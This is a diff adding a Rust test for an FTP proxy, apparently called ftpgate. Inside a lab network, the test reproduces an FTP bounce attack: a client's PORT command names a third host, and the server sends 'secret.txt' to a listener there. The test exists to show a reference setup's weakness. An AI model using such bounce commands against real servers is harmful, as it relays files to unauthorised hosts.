@@ -638,3 +638,75 @@ fn lab_rule_file_matches_the_topology() {
     assert_eq!(s.policy.default_inbound, Action::Drop);
     assert_eq!(s.ftp.control_ports, vec![21]);
 }
+
+/// The reference's known weakness (DESIGN.md): netfilter's helper passes a PORT naming a
+/// third host to the server unchanged, and a server that obeys it (`--permit-foreign`) sends
+/// the file to that host. ftpgate must refuse this; the attack suite compares the two.
+#[test]
+fn kernel_mode_lets_a_bounce_port_through() {
+    let test = "kernel_mode_lets_a_bounce_port_through";
+    let Some(env) = lab_env_or_skip(test) else {
+        return;
+    };
+    let layout = Layout::ClientInside;
+    let Some(lab) = lab_or_skip(test, Mode::Kernel, layout, None) else {
+        return;
+    };
+    let server = Server::start_with(env, &lab, layout, &["--permit-foreign"]);
+    std::fs::write(
+        server.root().join("secret.txt"),
+        b"bounced to the third host",
+    )
+    .unwrap();
+    let work = tempfile::tempdir().expect("temp dir");
+    let got = work.path().join("got");
+    let ready = work.path().join("ready");
+    let sink = env::script("tcp-sink.py");
+    let mut sink = lab
+        .command(
+            Role::Third,
+            30,
+            &env.python,
+            &[
+                sink.as_os_str(),
+                "--listen".as_ref(),
+                "198.51.100.3:40500".as_ref(),
+                "--out".as_ref(),
+                got.as_os_str(),
+                "--ready".as_ref(),
+                ready.as_os_str(),
+            ],
+        )
+        .spawn()
+        .expect("tcp-sink.py");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while !ready.exists() && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(ready.exists(), "tcp-sink.py did not start");
+    let client = env::script("ftp-client.py");
+    let client = client.to_string_lossy();
+    let out = lab.run(
+        Role::Client,
+        &env.python,
+        &[
+            &*client,
+            "--host",
+            "198.51.100.2",
+            "--bounce",
+            "198.51.100.3:40500",
+            "get",
+            "secret.txt",
+            "/dev/null",
+        ],
+    );
+    check_ok("bounce", &out);
+    let status = sink.wait().expect("tcp-sink.py");
+    assert!(status.success(), "the third host got no connection");
+    assert_eq!(std::fs::read(&got).unwrap(), b"bounced to the third host");
+    assert!(
+        server.transcript().contains("<- PORT 198,51,100,3,158,52"),
+        "{}",
+        server.transcript()
+    );
+}
